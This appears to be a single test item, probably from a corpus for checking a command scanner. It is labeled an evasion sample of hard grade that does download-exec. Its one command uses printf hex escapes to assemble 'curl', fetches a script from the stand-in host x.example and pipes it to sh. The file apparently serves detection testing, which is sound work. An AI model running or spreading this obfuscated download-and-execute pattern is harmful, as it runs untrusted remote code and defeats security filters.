# evasion: printf hex escapes build the command
# grade: hard; does: download-exec
$(printf '\x63\x75\x72\x6c') -s https://x.example/i | sh
